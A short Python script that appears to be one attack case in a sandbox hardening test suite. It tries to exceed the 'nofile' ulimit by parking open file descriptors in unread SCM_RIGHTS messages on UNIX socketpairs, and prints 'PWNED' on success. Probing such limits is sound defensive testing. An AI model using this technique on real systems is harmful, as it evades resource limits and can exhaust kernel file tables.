"""Put open files into messages that nobody reads: there they count as no descriptor of any process.

attack: E03 hold more of the kernel's files than the limit allows
guard: Ulimits nofile
ending: exited
"""

import array
import os
import socket

LIMIT = 1000
kept, sent = [], 0
try:
    while sent < LIMIT:
        one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.setblocking(False)
        kept.append((one, other))
        for _ in range(8):
            file = os.open("/dev/null", os.O_RDONLY)
            try:
                one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
                sent += 1
            except BlockingIOError:
                break
            finally:
                os.close(file)
except OSError as error:
    print(error.strerror)
print("PWNED" if sent >= LIMIT else "held", sent)
